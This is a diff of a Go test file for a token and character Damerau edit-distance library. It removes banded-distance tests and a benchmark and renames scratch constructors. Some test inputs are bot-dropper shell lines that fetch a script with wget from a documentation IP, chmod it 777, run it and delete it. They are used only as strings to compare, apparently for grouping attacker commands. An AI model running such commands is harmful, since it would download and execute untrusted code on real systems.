@@ -128,32 +128,6 @@ func TestNormalizedRange(t *testing.T) {
 	}
 }
 
-func TestBandedMatchesFull(t *testing.T) {
-	r := rand.New(rand.NewSource(11))
-	vocab := []string{"a", "b", "c", "d", "e"}
-	gen := func() []string {
-		n := r.Intn(15)
-		out := make([]string, n)
-		for i := range out {
-			out[i] = vocab[r.Intn(len(vocab))]
-		}
-		return out
-	}
-	for i := 0; i < 500; i++ {
-		a, b := gen(), gen()
-		full := Damerau(a, b)
-		for _, bound := range []int{0, 1, 3, 20} {
-			banded := DamerauBanded(a, b, bound)
-			if full <= bound && banded != full {
-				t.Fatalf("banded(%d) = %d, full = %d for %v %v", bound, banded, full, a, b)
-			}
-			if full > bound && banded <= bound {
-				t.Fatalf("banded(%d) = %d should exceed bound, full = %d", bound, banded, full)
-			}
-		}
-	}
-}
-
 func TestCharDamerau(t *testing.T) {
 	if d := CharDamerau("kitten", "sitting"); d != 3 {
 		t.Errorf("CharDamerau(kitten,sitting) = %d, want 3", d)
@@ -176,15 +150,11 @@ func TestScratchReuseMatchesFresh(t *testing.T) {
 		}
 		return out
 	}
-	s := NewScratch()
+	s := new(Scratch)
 	for i := 0; i < 1000; i++ {
 		a, b := gen(1+r.Intn(30)), gen(1+r.Intn(30))
 		if got, want := s.Damerau(a, b), Damerau(a, b); got != want {
 			t.Fatalf("scratch Damerau = %d, fresh = %d for %v %v", got, want, a, b)
-		}
-		bound := r.Intn(10)
-		if got, want := s.DamerauBanded(a, b, bound), DamerauBanded(a, b, bound); got != want {
-			t.Fatalf("scratch banded = %d, fresh = %d", got, want)
 		}
 		if got, want := s.Normalized(a, b), Normalized(a, b); got != want {
 			t.Fatalf("scratch Normalized = %v, fresh = %v", got, want)
@@ -259,7 +229,7 @@ func TestCharDamerauMatchesTokenReference(t *testing.T) {
 // per-character strings; with a reused Scratch it must not allocate at
 // all.
 func TestCharDamerauZeroStringAllocs(t *testing.T) {
-	s := NewScratch()
+	s := new(Scratch)
 	a := "cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh"
 	b := "cd /var/run; wget http://198.51.100.9/x.sh; chmod 777 x.sh"
 	s.CharDamerau(a, b) // warm the rows
@@ -280,15 +250,6 @@ func BenchmarkDamerauTokens(b *testing.B) {
 	}
 }
 
-func BenchmarkDamerauBanded(b *testing.B) {
-	x := Tokenize("cd /tmp; wget http://203.0.113.1/bot.sh; chmod 777 bot.sh; sh bot.sh; rm -rf bot.sh")
-	y := Tokenize("uname -a")
-	b.ResetTimer()
-	for i := 0; i < b.N; i++ {
-		DamerauBanded(x, y, 3)
-	}
-}
-
 // TestInternedMatchesStrings pins the interned path to the string
 // full DP: equal tokens get equal IDs, so the ID reference and the
 // hybrid kernel must both match it exactly.
@@ -303,12 +264,12 @@ func TestInternedMatchesStrings(t *testing.T) {
 		return out
 	}
 	in := NewInterner()
-	s := NewScratch()
+	s := new(Scratch)
 	for trial := 0; trial < 300; trial++ {
 		a, b := seq(rng.Intn(25)), seq(rng.Intn(25))
 		ia, ib := in.Intern(a), in.Intern(b)
-		if got, want := s.DamerauIDs(ia, ib), s.Damerau(a, b); got != want {
-			t.Fatalf("DamerauIDs(%v, %v) = %d, want %d", a, b, got, want)
+		if got, want := damerau(s, ia, ib), s.Damerau(a, b); got != want {
+			t.Fatalf("damerau(%v, %v) = %d, want %d", a, b, got, want)
 		}
 		if got, want := s.NormalizedIDs(ia, ib), s.Normalized(a, b); got != want {
 			t.Fatalf("NormalizedIDs(%v, %v) = %v, want %v", a, b, got, want)
